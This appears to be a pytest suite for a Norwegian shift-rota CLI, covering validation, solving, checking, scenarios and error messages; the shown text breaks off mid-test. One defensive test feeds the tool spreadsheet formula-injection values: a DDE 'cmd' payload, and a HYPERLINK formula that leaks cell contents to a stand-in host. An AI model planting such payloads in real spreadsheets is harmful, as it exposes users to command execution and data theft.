"""The rota command through click's CliRunner: exit codes, messages, no tracebacks."""

from __future__ import annotations

import json
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from openpyxl import load_workbook

import cli.main as cli_main
import cli.progress as cli_progress
from cli.main import main
from models.demo import demo_unit
from models.loader import load_unit
from models.rota import Rota
from models.rota_workbook import read_rota
from models.unit import Unit
from models.yaml_io import dump_unit_yaml, write_unit_yaml
from rota.annual.plan import YearPlan
from rota.check import check
from rota.cost import cost
from rota.findings import FindingKind
from rota.params import SolveParams
from scenarios.rota_workbook import write_rota_workbook
from tests.conftest import SMALL_YEAR_INPUT, SMALL_YEAR_LIMIT, SMALL_YEAR_PARAMS
from tests.models.test_unit_workbook import CASES, Case
from tests.rota.conftest import two_shift_unit, weekend_bound_unit
from tests.scenarios.test_rota_workbook import check_turnus_sheet, made_result


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def test_template_then_validate(tmp_path: Path) -> None:
    """`rota template t.xlsx --example && rota validate t.xlsx` succeeds and shows the balance."""
    book = tmp_path / "t.xlsx"
    written = run("template", str(book), "--example")
    assert written.exit_code == 0, written.output
    checked = run("validate", str(book))
    assert checked.exit_code == 0, checked.output
    assert "Kapasitetsbalanse" in checked.output
    assert "nordsamisk" in checked.output
    assert "582,5" in checked.output  # demand hours per week, Norwegian decimal comma


def test_validate_in_english(tmp_path: Path) -> None:
    """--lang en gives the same report in English."""
    book = tmp_path / "t.xlsx"
    run("template", str(book), "--example")
    checked = run("--lang", "en", "validate", str(book))
    assert checked.exit_code == 0
    assert "Capacity balance" in checked.output
    assert "582.5" in checked.output


def test_bad_workbook_is_located_without_traceback(tmp_path: Path) -> None:
    """A bad cell is printed with sheet, row and column; exit code 1; no traceback."""
    book = tmp_path / "t.xlsx"
    run("template", str(book), "--example")
    workbook = load_workbook(book)
    workbook["Ansatte"]["D3"] = "mye"
    workbook["Bemanning"]["A2"] = "Q"
    workbook.save(book)
    checked = run("validate", str(book))
    assert checked.exit_code == 1
    assert "Traceback" not in checked.output
    assert "ark «Ansatte», rad 3, kolonne «Stilling %»" in checked.output
    assert "ark «Bemanning», rad 2, kolonne «Vakt»" in checked.output
    assert "2 feil" in checked.output


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("missing.yaml", None, "Finner ikke filen"),
        ("unit.txt", "name: x", "Ukjent filtype"),
        ("broken.yaml", "name: [unclosed", "ikke gyldig YAML"),
        ("fake.xlsx", "not a workbook", "Excel-arbeidsbok"),
    ],
)
def test_unreadable_files(tmp_path: Path, name: str, content: str | None, expected: str) -> None:
    """Files that are missing, of an unknown kind or not what they claim give a message, exit 1."""
    path = tmp_path / name
    if content is not None:
        path.write_text(content)
    checked = run("validate", str(path))
    assert checked.exit_code == 1
    assert expected in checked.output
    assert "Traceback" not in checked.output


def test_failed_write_is_reported(tmp_path: Path) -> None:
    """Writing below a path that is a file fails with a message and exit 1, not a traceback."""
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    result = run("template", str(blocker / "t.xlsx"))
    assert result.exit_code == 1
    assert "Kan ikke lese eller skrive" in result.output
    assert "Traceback" not in result.output


def test_schema_is_json_schema() -> None:
    """`rota schema` prints the JSON Schema of a unit."""
    result = run("schema")
    assert result.exit_code == 0
    schema = json.loads(result.output)
    assert schema["title"] == "Unit"
    assert {"shift_types", "employees", "demand", "rules", "budget"} <= set(schema["properties"])


def test_version() -> None:
    """`rota --version` names the program and its version."""
    result = run("--version")
    assert result.exit_code == 0
    assert result.output.startswith("rota, version ")


def small_scenario_files(folder: Path, frame_nok: float = 2_500_000) -> list[Path]:
    """Three scenarios of the weekend-bound unit (six people at 20 % who all want 100 %, 2.8
    årsverk of demand, hours exact), written to `folder`: today; 0.4 årsverk fewer (two of the
    six positions); and the engine's position plan in 20 % steps, with its own time limit of
    1 s (in deterministic mode every stage of the planner has its floor of 1 s of work, as in
    tests/rota/test_fulltime.py). The budget frame is far above the plan's cost."""
    folder.mkdir(parents=True, exist_ok=True)
    unit = weekend_bound_unit(budget_frame_nok=frame_nok)
    (folder / "helg.yaml").write_text(dump_unit_yaml(unit), encoding="utf-8")
    texts = {
        "1-dagens.yaml": "name: Dagens turnus\nbase: helg.yaml\n",
        "2-minus.yaml": "name: Minus 0,4 årsverk\nbase: helg.yaml\n"
        "changes:\n  - {type: remove_fte, fte: 0.4}\n",
        "3-heltidsplan.yaml": "name: Heltidsplan\nbase: helg.yaml\n"
        "changes:\n  - {type: optimise_positions, step_pct: 20, time_limit_s: 1}\n",
    }
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    return [folder / name for name in texts]


@pytest.fixture(scope="module")
def demo_folder(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """`rota demo` run once in deterministic mode (the same rotas on any machine under any load),
    2 work units per unit, and the three small scenarios of `small_scenario_files` in place of the
    demo's own seven, at 1 each. The tests below assert what holds whatever the search finds in
    its time; what the scenarios show is proven by `rota scenarios run --deterministic` below."""
    folder = tmp_path_factory.mktemp("demo")
    scenarios = small_scenario_files(tmp_path_factory.mktemp("scenarios"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(cli_main, "demo_scenario_files", lambda: scenarios)
        result = run(
            "demo",
            "--out",
            str(folder),
            "--deterministic",
            "--time-limit",
            "2",
            "--scenario-time-limit",
            "1",
        )
    assert result.exit_code == 0, result.output
    return folder, result.output


@pytest.mark.parametrize("name", ["sykehjem", "bofellesskap"])
def test_demo_writes_units_that_read_back(name: str, demo_folder: tuple[Path, str]) -> None:
    """`rota demo` writes each demo unit as a workbook and YAML that read back equal."""
    folder, _ = demo_folder
    unit = demo_unit(name)
    assert load_unit(folder / f"{name}.xlsx") == unit
    assert load_unit(folder / f"{name}.yaml") == unit


@pytest.mark.parametrize("name", ["sykehjem", "bofellesskap"])
def test_demo_rota_is_legal_and_shows_the_gaps_the_checker_finds(
    name: str, demo_folder: tuple[Path, str]
) -> None:
    """Read back from its workbook, each demo rota breaks no rule, has every person within the
    tolerance of their position, and shows in Dekning exactly the people, sykepleier/vernepleier
    and North Sami speakers missing on each shift, as many as the independent checker finds
    (how many depends on how far the search got in its time, so none is not asserted)."""
    folder, output = demo_folder
    unit = demo_unit(name)
    book = folder / f"{name}-turnus.xlsx"
    assert f"Skrev turnusen til {book}" in output
    rota = read_rota(book, unit)
    findings = check(unit, rota)
    assert [f for f in findings if f.kind is not FindingKind.GAP] == []
    check_turnus_sheet(book, unit)  # layout, and red exactly where staffed below the minimum

    workbook = load_workbook(book)
    hours = workbook["Timer"]
    header = [cell.value for cell in hours[1]]
    planned, low, high = (
        header.index(h) for h in ("Planlagte timer", "Tillatt fra", "Tillatt til")
    )
    rows = [
        row for row in hours.iter_rows(min_row=2, values_only=True) if row[0] in unit.employee_by_id
    ]
    assert len(rows) == len(unit.employees)
    for row in rows:
        assert row[low] - 0.01 <= row[planned] <= row[high] + 0.01, row

    grid = dekning_grid(workbook["Dekning"])
    lead = "SPL" if name == "sykehjem" else "VPL"
    for day, demand in unit.demand_cells():
        on_shift = [e for e in unit.employees if rota.shift_on(e.id, day) == demand.shift]
        staffed = grid[demand.shift, "bemannet/minimum"][day]
        assert staffed == f"{len(on_shift)}/{demand.min}", (day, demand.shift)
        if lead in demand.competence_min:
            able = sum(unit.can_fill(e.competence, lead) for e in on_shift)
            need = demand.competence_min[lead]
            assert grid[demand.shift, f"{lead}: har/krav"][day] == f"{able}/{need}"
        if "se" in demand.language_min:
            speakers = sum("se" in e.languages for e in on_shift)
            need = demand.language_min["se"]
            assert grid[demand.shift, "nordsamisk: har/krav"][day] == f"{speakers}/{need}"
    shown = sum(
        int(have) < int(need)
        for line in grid.values()
        for value in line
        if value
        for have, need in [value.split("/")]
    )
    assert shown == len(findings)


def dekning_grid(sheet: Any) -> dict[tuple[str, str], list[str | None]]:
    """The Dekning grid as (shift, line) -> the value of each day."""
    grid: dict[tuple[str, str], list[str | None]] = {}
    shift = ""
    for row in sheet.iter_rows(min_row=3, values_only=True):
        shift = row[0] or shift
        grid[shift, row[1]] = list(row[2:])
    return grid


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_every_bad_workbook_is_printed_with_its_place(
    case: Case, example_workbook_bytes: bytes, tmp_path: Path
) -> None:
    """Each bad-input case of the reader tests, run through the CLI: exit 1, places shown."""
    workbook = load_workbook(BytesIO(example_workbook_bytes))
    expected = case.edit(workbook)
    book = tmp_path / "enhet.xlsx"
    workbook.save(book)
    checked = run("validate", str(book))
    assert checked.exit_code == 1
    assert "Traceback" not in checked.output
    for sheet, row, column in expected:
        place = f"ark «{sheet}»" + (f", rad {row}" if row is not None else "")
        place += f", kolonne «{column}»" if column is not None else ""
        assert place in checked.output


def unit_file(tmp_path: Path, name: str = "liten", **employee_rules: float) -> Path:
    """The two-shift unit of the rule tests as a YAML file; rules given go to Kari."""
    data = two_shift_unit()
    if employee_rules:
        data["employees"][0]["rules"] = dict(employee_rules)
    path = tmp_path / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


SOLVE_FLAGS = ("--deterministic", "--time-limit", "10")


def test_solve_writes_the_rota_workbook(tmp_path: Path) -> None:
    """`rota solve unit.yaml -o x.xlsx` prints the summary, writes the workbook and exits 0."""
    unit = unit_file(tmp_path)
    book = tmp_path / "ut" / "turnus.xlsx"
    result = run("solve", str(unit), "-o", str(book), *SOLVE_FLAGS)
    assert result.exit_code == 0, result.output
    assert "Optimal (bevist beste)" in result.output
    assert "Brudd på reglene" in result.output
    assert f"Skrev turnusen til {book}" in result.output
    assert load_workbook(book).sheetnames == [
        "Turnus",
        "Dekning",
        "Timer",
        "Regelsjekk",
        "Sammendrag",
        "Heltid",
    ]


def test_solve_per_person_adds_each_person_s_rota(tmp_path: Path) -> None:
    """`rota solve --per-person`: a sheet per person, a row per week with the shifts the
    Turnus sheet has for them and the week's hours."""
    unit = unit_file(tmp_path)
    book = tmp_path / "turnus.xlsx"
    result = run("solve", str(unit), "-o", str(book), "--per-person", *SOLVE_FLAGS)
    assert result.exit_code == 0, result.output
    loaded = load_unit(unit)
    rota = read_rota(book, loaded)
    workbook = load_workbook(book)
    for employee in loaded.employees:
        sheet = workbook[employee.display_name[:31]]
        for week in range(loaded.weeks):
            shown = [sheet.cell(row=week + 3, column=c).value for c in range(2, 9)]
            assert shown == list(rota.assignments[employee.id][week * 7 : week * 7 + 7])


def test_solve_writes_next_to_where_it_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without -o the workbook is <unit name>-turnus.xlsx in the current folder; English on request."""
    unit = unit_file(tmp_path / "enheter")
    monkeypatch.chdir(tmp_path)
    result = run("--lang", "en", "solve", str(unit), *SOLVE_FLAGS)
    assert result.exit_code == 0, result.output
    assert "Optimal (proven best)" in result.output
    assert (tmp_path / "liten-turnus.xlsx").is_file()


def test_solve_takes_params_from_a_file_and_flags(tmp_path: Path) -> None:
    """--params reads solver settings; a bad value in it is reported with file and field."""
    unit = unit_file(tmp_path)
    params = tmp_path / "params.yaml"
    params.write_text("time_limit_s: 10\ndeterministic: true\n", encoding="utf-8")
    book = tmp_path / "t.xlsx"
    result = run("solve", str(unit), "--params", str(params), "-o", str(book))
    assert result.exit_code == 0, result.output
    assert book.is_file()
    params.write_text("time_limit_s: -1\n", encoding="utf-8")
    result = run("solve", str(unit), "--params", str(params), "-o", str(book))
    assert result.exit_code == 1
    assert "params.yaml, time_limit_s" in result.output
    assert "Traceback" not in result.output


def test_impossible_unit_gives_no_workbook(tmp_path: Path) -> None:
    """Kari cannot reach 100 h in one week: exit 1, a plain message, and no workbook."""
    unit = unit_file(tmp_path, "umulig", min_hours=100)
    book = tmp_path / "umulig-turnus.xlsx"
    result = run("solve", str(unit), "-o", str(book), *SOLVE_FLAGS)
    assert result.exit_code == 1, result.output
    assert "Fant ingen turnus: reglene kan ikke oppfylles samtidig" in result.output
    assert "kari" in result.output  # the engine's explanation names who cannot be planned
    assert "Ingen turnusfil ble skrevet." in result.output
    assert "Traceback" not in result.output
    assert not book.exists()


def _edit_day(book: Path, employee_id: str, day: int, code: str | None) -> None:
    """Type a shift code into the Turnus sheet the way a person would."""
    workbook = load_workbook(book)
    sheet = workbook["Turnus"]
    row = next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 1).value == employee_id)
    sheet.cell(row, 4 + day).value = code
    workbook.save(book)


def test_check_passes_a_solved_rota_and_flags_a_hand_edit(tmp_path: Path) -> None:
    """`rota check` passes the solver's rota (exit 0); A then D typed by hand is a breach (exit 1)."""
    unit = unit_file(tmp_path)
    book = tmp_path / "t.xlsx"
    assert run("solve", str(unit), "-o", str(book), *SOLVE_FLAGS).exit_code == 0
    checked = run("check", str(book), "--unit", str(unit))
    assert checked.exit_code == 0, checked.output
    assert "Ingen brudd på reglene" in checked.output

    for day in range(7):
        _edit_day(book, "kari", day, None)
    _edit_day(book, "kari", 0, "A")
    _edit_day(book, "kari", 1, "D")
    checked = run("check", str(book), "--unit", str(unit))
    assert checked.exit_code == 1, checked.output
    assert "daglig hvile" in checked.output
    assert "AML § 10-8 (1)" in checked.output
    assert "uke 1 Ma" in checked.output
    assert "Traceback" not in checked.output


def test_check_shows_gaps_but_passes(tmp_path: Path) -> None:
    """A rota with cover gaps and no broken rule is shown with its gaps and exits 0."""
    data = two_shift_unit()
    data["demand"] = [{"shift": "D", "min": 1}, {"shift": "A", "min": 0, "target": 1}]
    path = tmp_path / "u.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    book = tmp_path / "t.xlsx"
    assert run("solve", str(path), "-o", str(book), *SOLVE_FLAGS).exit_code == 0
    workbook = load_workbook(book)
    sheet = workbook["Turnus"]
    for row in range(3, sheet.max_row + 1):
        if sheet.cell(row, 1).value in ("kari", "ola"):
            sheet.cell(row, 4 + 5).value = None  # nobody on the weekend
            sheet.cell(row, 4 + 6).value = None
    workbook.save(book)
    checked = run("check", str(book), "--unit", str(path))
    assert checked.exit_code == 0, checked.output
    assert "Ingen brudd på reglene" in checked.output
    assert "mangler i dekningen" in checked.output
    assert "Mangel" in checked.output


def test_check_locates_a_bad_cell(tmp_path: Path) -> None:
    """An unknown shift code typed into the rota is printed with sheet, row and column; exit 1."""
    unit = unit_file(tmp_path)
    book = tmp_path / "t.xlsx"
    assert run("solve", str(unit), "-o", str(book), *SOLVE_FLAGS).exit_code == 0
    _edit_day(book, "ola", 2, "Q")
    checked = run("check", str(book), "--unit", str(unit))
    assert checked.exit_code == 1
    assert "Traceback" not in checked.output
    assert "ark «Turnus», rad" in checked.output
    assert "kolonne «F»" in checked.output
    assert "Ukjent vaktkode «Q»" in checked.output


def test_demo_compares_the_scenarios(demo_folder: tuple[Path, str]) -> None:
    """`rota demo` writes the comparison of the scenarios it ships (here the three small ones)
    with its three charts and the same numbers as the comparison itself (its JSON); each rota
    found breaks no rule, and 0.4 fewer årsverk are 0.4 fewer årsverk paid for."""
    folder, output = demo_folder
    assert "Sammenligning" in output
    data = json.loads((folder / "scenarioer.json").read_text(encoding="utf-8"))["scenarios"]
    assert [s["name"] for s in data] == ["Dagens turnus", "Minus 0,4 årsverk", "Heltidsplan"]
    workbook = load_workbook(folder / "scenarioer.xlsx")
    sheet = workbook["Sammenligning"]
    assert len(sheet._charts) == 3
    header = [cell.value for cell in sheet[1]]
    name_col = header.index("Scenario")
    cost_col = header.index("Årskostnad (kr)")
    gap_col = header.index("Mangler i dekningen (vakttimer/uke)")
    breach_col = header.index("Regelbrudd")
    rows = {
        row[name_col]: row
        for row in sheet.iter_rows(min_row=2, values_only=True)
        if row[name_col] in {s["name"] for s in data}
    }
    assert len(rows) == len(data)
    # A tiny unit at 3 s: its first rota comes at once, however busy the machine.
    assert data[0]["has_rota"]
    for scenario in data:
        kpis = scenario["kpis"]
        row = rows[scenario["name"]]
        if scenario["has_rota"]:
            assert row[cost_col] == pytest.approx(kpis["annual_cost"], abs=1)
            assert row[gap_col] == pytest.approx(kpis["cover_gap_hours_per_week"], abs=0.01)
            assert row[breach_col] == kpis["breaches"] == 0
    by_name = {s["name"]: s["kpis"] for s in data}
    today, fewer = by_name["Dagens turnus"], by_name["Minus 0,4 årsverk"]
    assert fewer["fte_used"] == pytest.approx(today["fte_used"] - 0.4)


def test_scenarios_run_shows_what_a_cut_and_a_heltid_plan_do(tmp_path: Path) -> None:
    """`rota scenarios run --deterministic` on the small scenarios: 0.4 fewer årsverk cost less
    in pay but leave 75 shift-hours a week uncovered against 60 today (the 42 shifts less the 12
    and the 18 the positions hold); the engine's position plan has 2 of 6 full-time (all the
    FTE frame allows), every shift covered and no rule finding, within both frames; the Heltid
    sheet shows today and the plan side by side."""
    files = small_scenario_files(tmp_path / "scenarier")
    book, data_file = tmp_path / "sammenligning.xlsx", tmp_path / "sammenligning.json"
    result = run(
        "scenarios",
        "run",
        *map(str, files),
        "--deterministic",
        "--time-limit",
        "5",
        "-o",
        str(book),
        "--json",
        str(data_file),
    )
    assert result.exit_code == 0, result.output
    data = json.loads(data_file.read_text(encoding="utf-8"))["scenarios"]
    assert all(s["has_rota"] for s in data)
    by_name = {s["name"]: s["kpis"] for s in data}
    today, fewer, planned = (
        by_name[name] for name in ("Dagens turnus", "Minus 0,4 årsverk", "Heltidsplan")
    )
    for kpis in (today, fewer, planned):
        assert kpis["breaches"] == 0
    assert today["cover_gap_hours_per_week"] == pytest.approx(60)
    assert fewer["cover_gap_hours_per_week"] == pytest.approx(75)
    assert fewer["cost_by_kind"]["base"] < today["cost_by_kind"]["base"]
    assert fewer["cost_by_kind"]["uncovered"] > today["cost_by_kind"]["uncovered"]

    assert today["fulltime_share_heads"] == 0
    assert planned["fulltime_share_heads"] == pytest.approx(2 / 6)
    assert planned["gaps"] == 0
    assert planned["cover_gap_hours_per_week"] == 0
    assert planned["annual_cost"] <= planned["budget_frame"]
    assert planned["fte_used"] <= planned["fte_frame"] + 1e-9

    sheet = load_workbook(book)["Heltid"]
    header = [cell.value for cell in sheet[4]]
    share_row = next(
        row
        for row in sheet.iter_rows(min_row=5, values_only=True)
        if row[0] == "  Heltidsandel, hoder"
    )
    assert share_row[header.index("Dagens turnus")] == pytest.approx(0)
    assert share_row[header.index("Heltidsplan")] == pytest.approx(2 / 6)
    assert len(sheet._charts) == 1


def _weekend_bound_file(tmp_path: Path, tolerance_h: float = 0) -> Path:
    unit = weekend_bound_unit()
    rules = unit.rules.model_copy(update={"hours_tolerance_h_per_week": tolerance_h})
    path = tmp_path / "helg.yaml"
    path.write_text(dump_unit_yaml(unit.model_copy(update={"rules": rules})), encoding="utf-8")
    return path


def test_fulltime_plans_and_writes_the_plan_workbook(tmp_path: Path) -> None:
    """`rota fulltime` prints heltid before and after, who changes, cost against the frames,
    and writes the plan workbook."""
    out = tmp_path / "plan.xlsx"
    # 1 s: every stage of the planner has its floor of 1 s of work (tests/rota/test_fulltime.py).
    result = run(
        "fulltime",
        str(_weekend_bound_file(tmp_path)),
        "--step",
        "20",
        "--time-limit",
        "1",
        "--deterministic",
        "-o",
        str(out),
    )
    assert result.exit_code == 0, result.output
    assert "0 / 6 = 0,0 %" in result.output
    assert "2 / 6 = 33,3 %" in result.output
    assert "Går opp" not in result.output  # the terminal shows the table, the workbook the note
    assert "Endrede stillinger" in result.output
    assert "Årsverksramme" in result.output
    assert load_workbook(out).sheetnames[0] == "Stillingsplan"


def test_fulltime_with_a_bad_new_position_says_how_to_write_it(tmp_path: Path) -> None:
    """--new with an unknown competence names the option and the competences, without a
    traceback and without a workbook."""
    out = tmp_path / "plan.xlsx"
    result = run("fulltime", str(_weekend_bound_file(tmp_path)), "--new", "LEGE=1", "-o", str(out))
    assert result.exit_code != 0
    assert "--new" in result.output
    assert "HFA" in result.output
    assert "Traceback" not in result.output
    assert not out.exists()


def test_fte_need_and_what_a_cut_leaves_uncovered(tmp_path: Path) -> None:
    """`rota fte-need` shows the least årsverk (2.8 for 42 shifts of 7.5 h at 37.5 h a week,
    hours exact) against today and the frame; with --cut 0.4 it lists the weekdays and shifts
    left short (the six 20 % positions cover few of the 42 shifts even before the cut)."""
    exact = run(
        "fte-need", str(_weekend_bound_file(tmp_path)), "--time-limit", "10", "--deterministic"
    )
    assert exact.exit_code == 0, exact.output
    assert "Behov: 2,80" in exact.output
    assert "│ Sum        │  2,80 │  1,20 │      -1,60 │" in exact.output
    result = run(
        "fte-need",
        str(_weekend_bound_file(tmp_path, tolerance_h=3)),
        "--time-limit",
        "5",
        "--deterministic",
        "--cut",
        "0.4",
    )
    assert result.exit_code == 0, result.output
    assert "Årsverksbehov" in result.output
    # Whole positions: two of the six 20 % positions, each a proposal (nobody is vacant).
    assert "Stillinger som tas bort" in result.output
    assert result.output.count("Forslag: en besatt stilling") == 2
    assert "færre årsverk: vakter som mister dekning" in result.output
    assert "timer per uke under minimumsbemanningen" in result.output


def test_validate_shows_the_heltid_figures(tmp_path: Path) -> None:
    """`rota validate` shows the full-time share with the capacity balance."""
    result = run("validate", str(_weekend_bound_file(tmp_path)))
    assert result.exit_code == 0, result.output
    assert "Heltid og deltid" in result.output
    assert "0 / 6 = 0,0 %" in result.output


def test_scenarios_run_prices_the_today_it_is_given(tmp_path: Path) -> None:
    """`rota scenarios run --turnus` takes today's rota from `rota solve`'s workbook: today's
    scenario is that rota (same cover gaps and yearly cost as the rota's own Kostnad), and the
    others say they started from it."""
    files = small_scenario_files(tmp_path / "scenarier")
    turnus = tmp_path / "helg-turnus.xlsx"
    solved = run(
        "solve",
        str(files[0].parent / "helg.yaml"),
        "--deterministic",
        "--time-limit",
        "5",
        "-o",
        str(turnus),
    )
    assert solved.exit_code == 0, solved.output
    data_file = tmp_path / "s.json"
    result = run(
        "scenarios",
        "run",
        str(files[0]),
        str(files[1]),
        "--deterministic",
        "--time-limit",
        "2",
        "--turnus",
        str(turnus),
        "-o",
        str(tmp_path / "s.xlsx"),
        "--json",
        str(data_file),
    )
    assert result.exit_code == 0, result.output
    by_name = {s["name"]: s for s in json.loads(data_file.read_text("utf-8"))["scenarios"]}
    today, fewer = by_name["Dagens turnus"], by_name["Minus 0,4 årsverk"]
    assert today["start"] == "baseline"
    assert fewer["start"] in ("from_baseline", "baseline_kept")
    unit = load_unit(files[0].parent / "helg.yaml")
    rota = read_rota(turnus, unit)
    assert today["kpis"]["annual_cost"] == pytest.approx(cost(unit, rota).total)
    assert [p["reason"] for p in fewer["removed_positions"]] == ["proposal", "proposal"]


def test_names_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    """A unit, employee and name that look like Excel formulas come out of `rota solve` as
    text: no cell of the rota workbook holds a formula, and the names are there as given."""
    data = two_shift_unit()
    data["name"] = "=cmd|' /C calc'!A0"
    data["employees"][0]["name"] = '=HYPERLINK("http://x.example/?leak="&A1,"Klikk")'
    data["employees"][1]["id"] = "@SUM(A1:A9)"
    source = tmp_path / "ond.yaml"
    source.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    book = tmp_path / "turnus.xlsx"
    result = run("solve", str(source), "-o", str(book), *SOLVE_FLAGS)
    assert result.exit_code == 0, result.output
    workbook = load_workbook(book)
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert any("=HYPERLINK" in text for text in texts)


def test_validate_and_solve_warn_of_positions_over_the_fte_frame(tmp_path: Path) -> None:
    """Positions of 0.8 årsverk against a frame of 0.5: `validate` and `solve` both say so, as
    a warning (exit 0), not silently."""
    data = two_shift_unit()
    data["budget"] = {"fte_frame": 0.5}
    source = tmp_path / "ramme.yaml"
    source.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    checked = run("validate", str(source))
    assert checked.exit_code == 0, checked.output
    assert "årsverksrammen er 0,50: 0,30 årsverk over rammen" in checked.output
    solved = run("solve", str(source), "-o", str(tmp_path / "t.xlsx"), *SOLVE_FLAGS)
    assert solved.exit_code == 0, solved.output
    assert "årsverk over rammen" in solved.output


def test_an_output_over_its_own_input_is_refused(tmp_path: Path) -> None:
    """`solve x.yaml -o x.yaml`, a scenario run whose comparison would go over its scenario
    file, and `template` onto a filled workbook: exit 1 in words, the input untouched; the
    template with --force writes."""
    unit = unit_file(tmp_path)
    before = unit.read_bytes()
    result = run("solve", str(unit), "-o", str(unit), *SOLVE_FLAGS)
    assert result.exit_code == 1, result.output
    assert "Vil ikke skrive over inndatafila" in result.output
    assert unit.read_bytes() == before

    scenario = tmp_path / "s.yaml"
    scenario.write_text(f"name: S\nbase: {unit.name}\nchanges: []\n", encoding="utf-8")
    written = scenario.read_bytes()
    result = run("scenarios", "run", str(scenario), "--json", str(scenario))
    assert result.exit_code == 1, result.output
    assert "Vil ikke skrive over inndatafila" in result.output
    assert scenario.read_bytes() == written
    result = run("scenarios", "run", str(scenario), "-o", str(unit))
    assert result.exit_code == 1, result.output
    assert "Vil ikke skrive over inndatafila" in result.output
    assert unit.read_bytes() == before

    book = tmp_path / "enhet.xlsx"
    assert run("template", str(book), "--example").exit_code == 0
    filled = book.read_bytes()
    again = run("template", str(book))
    assert again.exit_code == 1, again.output
    assert "finnes alt" in again.output
    assert "Traceback" not in again.output
    assert book.read_bytes() == filled
    assert run("template", str(book), "--force").exit_code == 0


def test_files_that_are_not_utf8_are_named_not_an_internal_error(tmp_path: Path) -> None:
    """A parameter file and a scenario file in Latin-1: exit 1 naming each file, not an
    internal error."""
    unit = unit_file(tmp_path)
    params = tmp_path / "p.yaml"
    params.write_bytes("time_limit_s: 5 # grense på tid\n".encode("latin-1"))
    result = run("solve", str(unit), "--params", str(params), *SOLVE_FLAGS)
    assert result.exit_code == 1, result.output
    assert "p.yaml" in result.output
    assert "UTF-8" in result.output
    scenario = tmp_path / "s.yaml"
    scenario.write_bytes(f"name: Ærlig\nbase: {unit.name}\nchanges: []\n".encode("latin-1"))
    result = run("scenarios", "run", str(scenario), "-o", str(tmp_path / "c.xlsx"))
    assert result.exit_code == 1, result.output
    assert "s.yaml" in result.output
    assert "Intern feil" not in result.output


def test_a_seed_beyond_32_bits_is_refused_in_words(tmp_path: Path) -> None:
    """--seed 2^64 is a usage error naming the option; in a parameter file, exit 1 at the
    field."""
    unit = unit_file(tmp_path)
    result = run("solve", str(unit), "--seed", str(2**64))
    assert result.exit_code == 2, result.output
    assert "--seed" in result.output
    params = tmp_path / "p.yaml"
    params.write_text(f"seed: {2**64}\n", encoding="utf-8")
    result = run("solve", str(unit), "--params", str(params))
    assert result.exit_code == 1, result.output
    assert "seed" in result.output
    assert "Intern feil" not in result.output


def test_an_output_folder_that_cannot_be_written_is_refused_before_solving(
    tmp_path: Path,
) -> None:
    """-o inside a path whose 'folder' is a file: exit 1 at once, naming the folder, nothing
    solved."""
    unit = unit_file(tmp_path)
    blocker = tmp_path / "fil.txt"
    blocker.write_text("x", encoding="utf-8")
    result = run("solve", str(unit), "-o", str(blocker / "turnus.xlsx"), "--time-limit", "60")
    assert result.exit_code == 1, result.output
    assert "kan ikke skrives i" in result.output
    assert "Brudd på reglene" not in result.output  # no solve summary: nothing was solved


def test_ctrl_c_during_a_solve_says_so_and_writes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ctrl+C in the middle of a solve: exit 130, the words of it, no traceback, no rota file."""

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(cli_progress, "solve", interrupted)
    out = tmp_path / "turnus.xlsx"
    result = run("solve", str(unit_file(tmp_path)), "-o", str(out), *SOLVE_FLAGS)
    assert result.exit_code == 130
    assert "Avbrutt med Ctrl+C" in result.output
    assert "Traceback" not in result.output
    assert not out.exists()


def test_scenarios_run_leaves_out_unit_files_a_glob_takes_in(tmp_path: Path) -> None:
    """`rota scenarios run folder/*.yaml` where the folder holds the base unit too: the unit
    file is left out with a note; given alone it is refused as a unit file, exit 1."""
    unit = unit_file(tmp_path)
    scenario = tmp_path / "s.yaml"
    scenario.write_text(f"name: S\nbase: {unit.name}\nchanges: []\n", encoding="utf-8")
    out = tmp_path / "c.xlsx"
    flags = ("--deterministic", "--time-limit", "5")
    result = run("scenarios", "run", str(unit), str(scenario), "-o", str(out), *flags)
    assert result.exit_code == 0, result.output
    assert f"Hopper over {unit.name}: enhetsfiler, ikke scenarioer" in result.output
    assert out.is_file()
    alone = run("scenarios", "run", str(unit), "-o", str(tmp_path / "d.xlsx"), *flags)
    assert alone.exit_code == 1, alone.output
    assert f"{unit.name} er en enhetsfil" in alone.output


def test_aarsturnus_writes_the_year_and_check_reads_it(
    tmp_path: Path,
    small_ward: Unit,
    small_ward_turnus: Rota,
    small_year: YearPlan,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`rota aarsturnus UNIT --turnus T --ferie F` hands the planner exactly the unit, turnus, year
    file and deterministic limit it was given, writes the year's workbook and summary, and
    `rota check` reads the year back and passes it. The plan is the session's `small_year` (the
    same inputs, deterministic: the same plan), planned once for the suite."""
    unit_file = tmp_path / "lille.yaml"
    write_unit_yaml(small_ward, unit_file)
    turnus = tmp_path / "turnus.xlsx"
    write_rota_workbook(small_ward, made_result(small_ward_turnus), [], turnus)
    year_file = tmp_path / "ferie.yaml"
    year_file.write_text(
        "year: 2027\npeople:\n"
        "  - {id: s1, wished_weeks: [28, 29, 30], worked_christmas: true}\n"
        "  - {id: h1, agreed_weeks: [7], worked_easter: true}\n"
    )
    given: list[tuple[Any, ...]] = []

    def planned(*args: Any) -> YearPlan:
